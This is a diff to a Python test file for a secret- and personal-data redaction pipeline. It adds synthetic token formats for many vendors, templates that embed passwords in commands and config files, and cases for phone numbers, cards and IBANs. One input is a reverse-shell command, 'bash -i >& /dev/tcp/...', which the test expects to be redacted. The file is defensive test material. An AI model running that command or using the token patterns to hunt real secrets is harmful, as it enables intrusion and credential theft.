@@ -1,8 +1,10 @@
 """Redaction: every planted secret is gone, clean text stays as it is, and placeholders are stable."""
 
+import base64
 import random
 import string
 import time
+import uuid
 from collections import Counter
 from collections.abc import Callable
 from pathlib import Path
@@ -12,7 +14,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from grokora_pipeline.sessions import detectors, table
+from grokora_pipeline.sessions import detectors, personal, table
 from grokora_pipeline.sessions.audit import surviving_secrets
 from grokora_pipeline.sessions.detectors import is_suspicious
 from grokora_pipeline.sessions.redaction import Redactor, TooDeepError
@@ -33,12 +35,12 @@ def _after(prefix: str, alphabet: str, length: int) -> Generator:
 
 def _card(rng: random.Random) -> str:
     digits = "4" + "".join(rng.choices(string.digits, k=14))
-    return next(digits + check for check in string.digits if detectors.luhn(digits + check))
+    return next(digits + check for check in string.digits if personal.luhn(digits + check))
 
 
 def _iban(rng: random.Random) -> str:
     account = "".join(rng.choices(string.digits, k=15))
-    return next(text for n in range(2, 99) if detectors.iban(text := f"SI{n:02d}{account}"))
+    return next(text for n in range(2, 99) if personal.iban(text := f"SI{n:02d}{account}"))
 
 
 def _key_block(rng: random.Random) -> str:
@@ -71,6 +73,29 @@ TOKENS: dict[str, Generator] = {
     "groq": _after("gsk_", LETTERS, 52),
     "jwt": lambda rng: "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0." + "".join(rng.choices(LETTERS, k=43)),
     "private key": _key_block,
+    "google refresh": _after("1//0", LETTERS, 60),
+    "openai service": _after("sk-svcacct-", LETTERS + "_-", 74),
+    "openrouter": _after("sk-or-v1-", HEX, 64),
+    "deepseek": _after("sk-", HEX, 32),
+    "replicate": _after("r8_", LETTERS, 37),
+    "databricks": _after("dapi", HEX, 32),
+    "digitalocean": _after("dop_v1_", HEX, 64),
+    "supabase": _after("sb_secret_", LETTERS, 31),
+    "mailgun": _after("key-", HEX, 32),
+    "atlassian": _after("ATATT3xFfGF0", LETTERS, 170),
+    "linear": _after("lin_api_", LETTERS, 40),
+    "notion": _after("secret_", LETTERS, 43),
+    "figma": _after("figd_", LETTERS, 40),
+    "shopify": _after("shpat_", HEX, 32),
+    "heroku": _after("HRKU-", LETTERS, 60),
+    "square": _after("EAAA", LETTERS, 60),
+    "terraform": lambda rng: f"{_some(LETTERS, 14)(rng)}.atlasv1.{_some(LETTERS, 67)(rng)}",
+    "vault": _after("hvs.", LETTERS, 90),
+    "grafana": _after("glsa_", LETTERS, 32),
+    "elevenlabs": _after("sk_", HEX, 48),
+    "azure client": lambda rng: f"{_some(LETTERS, 3)(rng)}8Q~{_some(LETTERS, 34)(rng)}",
+    "bcrypt": lambda rng: "$2b$12$" + "".join(rng.choices(LETTERS + "./", k=53)),
+    "nobody's key": _after("zzq_", LETTERS, 48),
     "e-mail": lambda rng: f"{''.join(rng.choices(string.ascii_lowercase, k=8))}.novak@podjetje.example.si",
     "phone": lambda rng: f"+386 {rng.randrange(30, 70)} {rng.randrange(100, 999)} {rng.randrange(100, 999)}",
     "credit card": _card,
@@ -105,6 +130,41 @@ CONTEXTS: dict[str, tuple[str, Generator]] = {
     "bearer": ("Authorization: Bearer {0}", _some(LETTERS, 32)),
     "high entropy": ('the signature "{0}" was sent', _some(LETTERS, 40)),
     "azure key": ("AccountKey={0}==;EndpointSuffix=core", _some(LETTERS, 86)),
+    "aws pair": ("AKIAIOSFODNN7EXAMPLE : {0}", _some(LETTERS, 40)),
+    "aws pair in json": ('{{"AccessKeyId": "x", "SecretAccessKey": "{0}"}}', _some(LETTERS + "/+", 40)),
+    "aws csv": ("Access key ID,Secret access key\nAKIAIOSFODNN7EXAMPLE,{0}", _some(LETTERS, 40)),
+    "heroku uuid": ("HEROKU_API_KEY={0}", lambda rng: str(uuid.UUID(int=rng.getrandbits(128)))),
+    "azure sas": ("https://x.blob.core.windows.net/c?sv=2022-11-02&sig={0}%3D", _some(LETTERS, 43)),
+    "discord webhook": ("https://discord.com/api/webhooks/1234567890/{0}", _some(LETTERS, 68)),
+    "basic header": ("Authorization: Basic {0}=", _some(LETTERS, 20)),
+    "basic header in json": ('{{"headers": {{"Authorization": "Basic {0}="}}}}', _some(LETTERS, 20)),
+    "ssws header": ("authorization: SSWS {0}", _some(LETTERS, 42)),
+    "api key header": ("curl -H 'api-key: {0}' host", _some(HEX, 32)),
+    "cookie": ("curl -H 'Cookie: sessionid={0}; theme=dark' host", _some(LETTERS, 16)),
+    "curl user": ("curl -u 'bob:{0}' host", _some(LETTERS, 12)),
+    "flag": ("tool --password {0} --verbose", _some(LETTERS, 12)),
+    "sshpass": ("sshpass -p {0} ssh bob@host", _some(LETTERS, 12)),
+    "mysql": ("mysql -u root -p{0} shop", _some(LETTERS, 12)),
+    "sudo": ("echo {0} | sudo -S ls", _some(LETTERS, 12)),
+    "netrc": ("machine x login bob password {0}", _some(LETTERS, 12)),
+    "docker env": ("ENV DB_PASSWORD {0}", _some(LETTERS, 12)),
+    "xml": ("<password>{0}</password>", _some(LETTERS, 12)),
+    "name and value": ('{{"name": "DB_PASSWORD", "value": "{0}"}}', _some(LETTERS, 12)),
+    "call": ("os.environ.setdefault('DB_PASSWORD', '{0}')", _some(LETTERS, 12)),
+    "typed constant": ('apiKey: string = "{0}"', _some(LETTERS, 24)),
+    "german": ("Passwort: {0}", _some(LETTERS, 10)),
+    "slovene": ("geslo: {0}", _some(LETTERS, 10)),
+    "chinese": ("\u5bc6\u7801\uff1a{0}", _some(LETTERS, 10)),
+    "in a url": ("https://x.org/login?user=bob&pass={0}", _some(LETTERS, 10)),
+    "url-encoded": ("q=password%3D{0}%26x", _some(LETTERS, 10)),
+    "unicode escapes": ("{{\\u0022password\\u0022:\\u0022{0}\\u0022}}", _some(LETTERS, 10)),
+    "at in the password": ("postgresql://app:p@ss{0}@host/db", _some(LETTERS, 10)),
+    "mnemonic": ("seed phrase: {0}", lambda rng: " ".join(rng.choices(("wave", "legal", "sausage", "thank"), k=12))),
+    "code that was sent": ("your verification code is {0}", lambda rng: str(rng.randrange(10**7, 10**8))),
+    "environment in base64": (
+        "echo {0} | base64 -d",
+        lambda rng: base64.b64encode(f"DB_PASSWORD={_some(LETTERS, 12)(rng)}\nUSER=x\n".encode()).decode(),
+    ),
     "home folder": ("ls /home/{0}/vault", _some(string.ascii_lowercase, 9)),
     "home on windows": ("dir C:\\Users\\{0}\\Documents", _some(string.ascii_lowercase, 9)),
 }
@@ -172,6 +232,18 @@ CLEAN = (
     "task_key=notes session 7410b4e9d51a4350a33186cb975264e5 commit 67bfefc0",
     "password=$DB_PASSWORD token=${TOKEN} api_key=os.environ['KEY'] secret: <your secret>",
     "The secret to success is practice; the key idea is simple: token by token",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36; package==1.2.3.4",
+    "chapter 3.2.1.4, section 10.2.3.1, order no. 100200300400, 1762971671911775123, ISBN 978-3-16-148410-0",
+    "sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855, 550e8400-e29b-41d4-a716-446655440000",
+    "if password == confirm_password: return True\nself.password = password\nx = getpass.getpass('Password: ')",
+    "git@github.com:zejzl/grokputer.git and https://github.com/zejzl/grokputer/blob/67bfefc0a1b2c3d4e5f60718293a4b5c6d7e8f90",
+    "call_AbC123xYz456DeF789gHi012 chatcmpl-9abcDEF123ghiJKL456mnoPQR789 toolu_01A09q90qw90lq917835lq9",
+    "Qwen3OmniMoeThinkerTextPreTrainedModel XMLHttpRequest2Factory test_UserServiceImplV2IntegrationTest3",
+    "libssl1.1_1.1.1f-1ubuntu2.20_amd64.deb _multiarray_umath.cpython-311-x86_64-linux-gnu.so IMG_20251112_182111.png",
+    "M18 14H2V6h12v8zm0-9H2V2h12v3zm2-3H1C0v12h2v-2h2v2z; base64 aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgdGV4dA==",
+    "Password: \u2022\u2022\u2022\u2022; the password field; set the password to a new value; Secretary: John",
+    "--password-stdin; docker run -u 1000:1000 -p 8080:80 x; redis-cli -p 6379; max_tokens: 4096; primary_key=True",
+    '{"name": "password", "type": "string", "value": ""} {"credentials": "include", "cookies": "enabled", "pin": true}',
 )
 
 
@@ -187,6 +259,52 @@ def test_the_same_value_gets_the_same_placeholder_within_a_session() -> None:
     assert first == "DB_PASSWORD=<SECRET:password:1> and mail <PII:email:1>"
     assert second == {"command": "mysql -p<SECRET:password:1>", "to": "<PII:email:1>", "cc": "<PII:email:2>"}
     assert counts == {"password": 1, "email": 2}
+
+
+@pytest.mark.parametrize(
+    ("value", "secret"),
+    [
+        ({"dbPassword": "onlyletters"}, "onlyletters"),
+        ({"password": 12345678}, "12345678"),
+        ({"passwords": ["onlyletters", "others"]}, "others"),
+        ([{"name": "DB_PASSWORD", "value": "onlyletters"}], "onlyletters"),
+        ({"Authorization": "Token Zx9kQ2mV7tRb"}, "Zx9kQ2mV7tRb"),
+        ({"Cookie": "sessionid=Zx9kQ2mV"}, "Zx9kQ2mV"),
+        ({"ana@example.org": 1}, "ana@"),
+        ({"auth": "Ym9iOkh1bnRlcjJob3JzZQ=="}, "Ym9i"),
+        ({"card": 4111111111111111}, "4111"),
+    ],
+)
+def test_the_name_of_a_member_tells_what_its_value_is(value: object, secret: str) -> None:
+    assert is_suspicious(orjson.dumps(value))
+    assert secret not in orjson.dumps(Redactor().redact(value)[0]).decode()
+
+
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        ("4111 1111 1111 1111", "1111"),
+        ("3782 822463 10005", "822463"),
+        ("tel. 041 123 456", "123"),
+        ("07911 123456", "123456"),
+        ("+44 (0)20 7946 0958", "7946"),
+        ("01 70 18 99 00", "18"),
+        ("(11) 91234-5678", "5678"),
+        ("1-800-555-0199", "0199"),
+        ("ana@ex\u00e4mple.de", "ana"),
+        ("ana.novak%40example.org", "novak"),
+        ("GB29 NWBK 6016 1331 9268 19", "6016"),
+        ("123-45-6789", "6789"),
+        ("bash -i >& /dev/tcp/203.0.113.9/4444", "203.0"),
+        (r"C:\Users\Jan Novak\Documents", "Novak"),
+        ("jnovak@laptop:~/vault$ ls", "jnovak"),
+        ("uid=1000(jnovak) gid=1000(jnovak)", "jnovak"),
+    ],
+)
+def test_personal_data_of_many_countries_is_found(text: str, left: str) -> None:
+    redacted, counts = Redactor().redact(f"see {text} there")
+    assert left not in redacted
+    assert counts.total() >= 1
 
 
 def test_a_secret_named_late_in_a_turn_is_gone_from_its_start_too(tmp_path: Path) -> None:
